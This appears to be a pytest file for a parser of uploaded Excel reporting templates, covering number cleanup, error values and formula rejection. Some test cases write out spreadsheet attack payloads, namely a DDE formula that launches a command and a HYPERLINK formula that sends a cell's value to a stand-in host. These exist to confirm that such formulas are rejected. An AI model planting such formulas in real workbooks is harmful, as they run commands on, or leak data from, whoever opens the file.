"""Reading a filled template back: values with their cells, and what the reader had to repair."""

from __future__ import annotations

import datetime as dt
import io
import re

import pytest
from openpyxl import load_workbook
from openpyxl.styles import PatternFill

from schemas.sheets import INDICATOR_SHEET, META_SHEET, TASK_SHEET
from templates_xlsx.upload import read_upload
from tests.xlsx_fill import cell_of, fill_template, fill_valid, patch_sheet_xml

IND, TASK = INDICATOR_SHEET.name, TASK_SHEET.name


def _flat(issues):
    return [[i.sheet, i.cell, i.code] for i in issues]


def _value(parsed, sheet_key: str, code: str, column: str):
    frame = parsed.sheets[sheet_key].frame
    key = parsed.sheets[sheet_key].spec.row_key
    return frame.filter(frame[key] == code)[column].item()


def _set_cell_xml(xml: str, ref: str, cell: str) -> str:
    """Replace the <c r="ref" …/> or <c r="ref" …>…</c> element with `cell`."""
    pattern = re.compile(rf'<c r="{ref}"[^>]*?(/>|>.*?</c>)', re.S)
    assert pattern.search(xml), f"{ref} not in sheet XML"
    return pattern.sub(cell, xml, count=1)


def test_a_filled_template_reads_back_with_values_and_cells(template):
    filled = fill_template(
        template,
        indicators={"JZ-K01": {"value": 101, "note": "市统计局"}, "JZ-K02": -2.5},
        tasks={"JZ-3.1.1": {"status": "推进中", "percent": 60, "narrative": "新认定 12 家"}},
    )
    parsed = read_upload(filled)
    assert parsed.issues == []
    assert parsed.meta["unit"] == "JZKF-JFJ" and parsed.meta_state == "veryHidden"
    assert _value(parsed, "indicator_values", "JZ-K01", "value") == 101
    assert _value(parsed, "indicator_values", "JZ-K01", "note") == "市统计局"
    assert _value(parsed, "indicator_values", "JZ-K02", "value") == -2.5
    assert _value(parsed, "indicator_values", "JZ-K03", "value") is None
    assert _value(parsed, "task_progress", "JZ-3.1.1", "status") == "推进中"
    assert _value(parsed, "task_progress", "JZ-3.1.1", "percent") == 60
    ind = parsed.sheets["indicator_values"]
    assert ind.frame["_row"].to_list() == [4, 5, 6, 7]
    assert ind.cell("value", 4) == "N4" == cell_of(template, IND, "JZ-K01", "value")


@pytest.mark.parametrize(
    ("typed", "expected", "code"),
    [
        ("１２０", 120, "number-full-width"),
        ("1,200", 1200, "number-thousands-separator"),
        ("15%", 15, "number-percent-string"),
        ("120家", 120, "number-unit-suffix"),
        (" 120 ", 120, "text-trimmed"),
        ("\u3000120", 120, "text-trimmed"),
        ("—", None, "value-not-applicable"),
        ("/", None, "value-not-applicable"),
        ("无", None, "value-not-applicable"),
    ],
)
def test_what_a_person_typed_is_read_as_meant_with_a_warning_at_the_cell(template, typed, expected, code):
    parsed = read_upload(fill_template(template, indicators={"JZ-K01": typed}))
    assert _flat(parsed.issues) == [[IND, "N4", code]]
    assert not parsed.issues[0].is_error
    assert parsed.issues[0].value == typed
    assert _value(parsed, "indicator_values", "JZ-K01", "value") == expected


@pytest.mark.parametrize(
    ("typed", "code"),
    [
        ("1e999", "value-not-finite"),
        ("-1e999", "value-not-finite"),
        ("inf", "value-not-finite"),
        ("NaN", "value-not-finite"),
        ("1.79e308", "value-too-large"),
        ("1000000000000001", "value-too-large"),
        (2e15, "value-too-large"),
        ("1e400家", "value-not-finite"),
    ],
)
def test_non_finite_and_absurd_numbers_are_errors_at_their_cell_and_not_stored(template, typed, code):
    parsed = read_upload(fill_template(template, indicators={"JZ-K01": typed}))
    assert _flat(parsed.issues) == [[IND, "N4", code]]
    assert parsed.issues[0].is_error and "{" not in parsed.issues[0].message
    assert _value(parsed, "indicator_values", "JZ-K01", "value") is None


def test_the_magnitude_bound_is_inclusive_and_named_in_the_message(template):
    parsed = read_upload(fill_template(template, indicators={"JZ-K01": 1e15, "JZ-K03": "-1e16"}))
    assert _flat(parsed.issues) == [[IND, "N6", "value-too-large"]]
    assert "10^15" in parsed.issues[0].message
    assert _value(parsed, "indicator_values", "JZ-K01", "value") == 1e15


@pytest.mark.parametrize("typed", ["-0", "-0.0", -0.0, "－０"])
def test_negative_zero_is_read_as_zero(template, typed):
    parsed = read_upload(fill_template(template, indicators={"JZ-K01": typed}))
    value = _value(parsed, "indicator_values", "JZ-K01", "value")
    assert value == 0 and str(value) == "0.0"


def test_full_width_digits_are_read_as_numbers_with_a_warning(template):
    parsed = read_upload(fill_template(template, indicators={"JZ-K01": "１２０"}))
    assert _flat(parsed.issues) == [["指标填报", "N4", "number-full-width"]]
    assert parsed.issues[0].message == "“１２０”含全角数字，已按 120 读取。"


def test_an_amount_typed_in_another_scale_of_the_measure_unit_is_converted(template):
    parsed = read_upload(fill_template(template, indicators={"JZ-K03": "1.2亿元"}))  # measure unit 万元
    assert _flat(parsed.issues) == [[IND, "N6", "number-unit-suffix"]]
    assert "已按 12000 读取" in parsed.issues[0].message
    assert _value(parsed, "indicator_values", "JZ-K03", "value") == 12000


@pytest.mark.parametrize("typed", ["无", "暂无", "没有", "—"])
def test_none_in_a_free_text_column_is_an_answer_kept_as_typed_without_a_warning(template, typed):
    tasks = {"JZ-3.1.1": {"status": "推进中", "percent": 60, "narrative": "新认定 12 家", "problems": typed}}
    parsed = read_upload(fill_template(template, tasks=tasks))
    assert parsed.issues == []
    assert _value(parsed, "task_progress", "JZ-3.1.1", "problems") == typed


def test_empty_input_is_no_value_without_an_issue(template):
    parsed = read_upload(fill_template(template, indicators={"JZ-K01": ""}))
    assert parsed.issues == []
    assert _value(parsed, "indicator_values", "JZ-K01", "value") is None


def test_a_number_stored_as_text_is_read_without_an_issue(template):
    parsed = read_upload(
        fill_template(template, indicators={"JZ-K01": "1200"}, tasks={"JZ-3.1.1": {"percent": "60"}})
    )
    assert parsed.issues == []
    assert _value(parsed, "indicator_values", "JZ-K01", "value") == 1200
    assert _value(parsed, "task_progress", "JZ-3.1.1", "percent") == 60


def test_a_number_formatted_as_percent_in_excel_is_read_as_the_percentage(template):
    """Typing 15% into Excel stores 0.15 with a percent format; the person meant 15."""

    def percent_format(book):
        book[TASK]["H4"].number_format = "0%"
        book[IND]["N5"].number_format = "0.0%"

    parsed = read_upload(
        fill_template(
            template, indicators={"JZ-K02": 0.155}, tasks={"JZ-3.1.1": {"percent": 0.6}}, edit=percent_format
        )
    )
    assert _flat(parsed.issues) == [
        [IND, "N5", "number-percent-string"],
        [TASK, "H4", "number-percent-string"],
    ]
    assert [i.value for i in parsed.issues] == ["15.5%", "60%"]
    assert _value(parsed, "indicator_values", "JZ-K02", "value") == 15.5
    assert _value(parsed, "task_progress", "JZ-3.1.1", "percent") == 60


def test_a_formula_without_a_cached_value_is_an_error_at_its_cell(template):
    parsed = read_upload(fill_template(template, indicators={"JZ-K01": "=100+20"}))
    assert _flat(parsed.issues) == [[IND, "N4", "formula-without-value"]]
    assert parsed.issues[0].is_error and parsed.issues[0].value == "=100+20"
    assert _value(parsed, "indicator_values", "JZ-K01", "value") is None


@pytest.mark.parametrize(
    ("ref", "cell", "shown"),
    [
        ("N4", '<c r="N4" s="0"><f>100+20</f><v>120</v></c>', "=100+20"),
        ("O4", '<c r="O4" t="str"><f>IF(N4="","",N4)</f><v></v></c>', '=IF(N4="","",N4)'),
        ("O4", '<c r="O4" t="str"><f>cmd|\' /C calc\'!A0</f><v>0</v></c>', "=cmd|' /C calc'!A0"),
        (
            "O5",
            '<c r="O5" t="str"><f>HYPERLINK("http://x.example/?v="&amp;N5,"来源")</f><v>来源</v></c>',
            None,
        ),
        ("N5", '<c r="N5"><f t="shared" ref="N5:N6" si="0">N4*2</f><v>240</v></c>', "=N4*2"),
    ],
    ids=["arithmetic", "empty-text-result", "dde", "hyperlink", "shared"],
)
def test_a_formula_with_a_cached_value_is_an_error_at_its_cell_and_its_result_unread(
    template, ref, cell, shown
):
    parsed = read_upload(patch_sheet_xml(template, IND, lambda xml: _set_cell_xml(xml, ref, cell)))
    assert _flat(parsed.issues) == [[IND, ref, "formula-not-allowed"]]
    assert parsed.issues[0].is_error and parsed.issues[0].value.startswith("=")
    assert shown is None or parsed.issues[0].value == shown
    code = {"4": "JZ-K01", "5": "JZ-K02"}[ref[1:]]
    assert _value(parsed, "indicator_values", code, "value" if ref[0] == "N" else "note") is None


def test_a_formula_outside_the_table_is_an_error_at_its_cell(template):
    def scratch(book):
        book[IND]["Z2"] = "=SUM(N4:N7)"
        book[TASK]["A1"] = '=HYPERLINK("http://x.example","任务")'

    parsed = read_upload(fill_valid(template, edit=scratch))
    assert _flat(parsed.issues) == [[IND, "Z2", "formula-not-allowed"], [TASK, "A1", "formula-not-allowed"]]


def test_a_built_template_has_no_formulas_so_every_formula_came_from_the_upload(template):
    import zipfile

    archive = zipfile.ZipFile(io.BytesIO(template))
    sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(rb"<(\w+:)?f[ >/]", archive.read(n)) for n in sheets)


@pytest.mark.parametrize(
    "cell",
    [
        '<c r="N4" t="e"><v>#DIV/0!</v></c>',
        '<c r="N4" t="e"><f>1/0</f><v>#DIV/0!</v></c>',
    ],
    ids=["value", "formula"],
)
def test_an_excel_error_value_is_an_error_at_its_cell(template, cell):
    parsed = read_upload(patch_sheet_xml(template, IND, lambda xml: _set_cell_xml(xml, "N4", cell)))
    assert _flat(parsed.issues) == [[IND, "N4", "excel-error-value"]]
    assert parsed.issues[0].value == "#DIV/0!"


def test_an_error_value_typed_by_openpyxl_is_reported_too(template):
    parsed = read_upload(fill_template(template, tasks={"JZ-3.2.2": {"percent": "#N/A"}}))
    assert _flat(parsed.issues) == [[TASK, "H5", "excel-error-value"]]


def test_inline_strings_are_read_like_shared_strings(template):
    cells = {
        "N4": '<c r="N4" t="inlineStr"><is><t>１２０</t></is></c>',
        "O4": '<c r="O4" t="inlineStr"><is><r><t>市统计</t></r><r><rPr><b/></rPr><t>局</t></r></is></c>',
    }

    def patch(xml):
        for ref, cell in cells.items():
            xml = _set_cell_xml(xml, ref, cell)
        return xml

    parsed = read_upload(patch_sheet_xml(template, IND, patch))
    assert _flat(parsed.issues) == [[IND, "N4", "number-full-width"]]
    assert _value(parsed, "indicator_values", "JZ-K01", "value") == 120
    assert _value(parsed, "indicator_values", "JZ-K01", "note") == "市统计局"


def test_cells_without_a_reference_and_with_a_namespace_prefix_are_located(template):
    """Some generators omit r="…" on cells and prefix the main namespace (x:c); errors must still
    be reported at the right cell."""

    def rewrite(xml):
        row4 = re.search(r'<row r="4".*?</row>', xml, re.S).group(0)
        new_row = re.sub(r' r="[A-Z]+4"', "", row4)  # every cell of row 4 loses its reference
        new_row = new_row.replace("<c s", "<c s", 1)
        xml = xml.replace(row4, new_row)
        xml = re.sub(r"<(/?)(worksheet|sheetData|row|c|v|f|is|t)\b", r"<\1x:\2", xml)
        return xml.replace('<x:worksheet xmlns="', '<x:worksheet xmlns:x="', 1)

    filled = fill_template(template, indicators={"JZ-K01": "#VALUE!", "JZ-K02": "１５"})
    parsed = read_upload(patch_sheet_xml(filled, IND, rewrite))
    assert _flat(parsed.issues) == [[IND, "N4", "excel-error-value"], [IND, "N5", "number-full-width"]]
    assert parsed.sheets["indicator_values"].frame["indicator"].to_list() == [
        "JZ-K01",
        "JZ-K02",
        "JZ-K03",
        "JZ-K04",
    ]


def test_blank_and_formatted_trailing_rows_are_ignored(template):
    def trailing(book):
        ws = book[IND]
        for r in range(8, 40):
            for col in (1, 14, 15):
                ws.cell(row=r, column=col).fill = PatternFill("solid", fgColor="FFFF00")
        ws.cell(row=30, column=15).value = "   "
        ws.cell(row=31, column=14).value = ""

    parsed = read_upload(fill_valid(template, edit=trailing))
    assert parsed.issues == []
    assert parsed.sheets["indicator_values"].frame.height == 4
    assert parsed.sheets["task_progress"].frame.height == 3


def test_dates_are_read_as_dates_in_text_cells_and_are_not_numbers(template):
    parsed = read_upload(
        fill_template(
            template, indicators={"JZ-K01": {"note": dt.date(2025, 9, 30)}, "JZ-K03": dt.date(2025, 1, 2)}
        )
    )
    assert _value(parsed, "indicator_values", "JZ-K01", "note") == "2025-09-30"
    assert _flat(parsed.issues) == [[IND, "N6", "value-not-number"]]
    assert parsed.issues[0].value == "2025-01-02"


def test_each_issue_names_the_column_header_and_row(template):
    parsed = read_upload(fill_template(template, tasks={"JZ-3.6.1": {"percent": "８０"}}))
    (issue,) = parsed.issues
    assert (issue.sheet, issue.cell, issue.column, issue.row) == (TASK, "H6", "完成进度（%）", 6)


def test_a_template_made_before_the_headers_took_full_width_brackets_still_reads(template):
    """Units keep last quarter's template: its header "完成进度(%)" is the column "完成进度（%）"."""

    def old_header(book):
        ws = book[TASK]
        (cell,) = [c for row in ws.iter_rows() for c in row if c.value == TASK_SHEET.column("percent").header]
        cell.value = "完成进度(%)"

    parsed = read_upload(fill_valid(template, edit=old_header))
    assert parsed.issues == []
    assert parsed.sheets["task_progress"].frame["percent"].null_count() == 0


def test_bytes_that_are_not_a_workbook_are_an_issue_not_a_traceback():
    parsed = read_upload(b"PK\x03\x04 this is not really a zip")
    assert [i.code for i in parsed.issues] == ["file-unreadable"]
    assert not parsed.readable
    assert set(parsed.sheets) == {"indicator_values", "task_progress"}
    assert parsed.meta == {}


def test_a_missing_sheet_and_meta_are_reported_as_found(template):
    book = load_workbook(io.BytesIO(template))
    book.security = None
    del book[TASK]
    del book[META_SHEET.name]
    buf = io.BytesIO()
    book.save(buf)
    parsed = read_upload(buf.getvalue())
    assert _flat(parsed.issues) == [[TASK, None, "sheet-missing"]]
    assert parsed.meta == {} and parsed.meta_state == "missing"
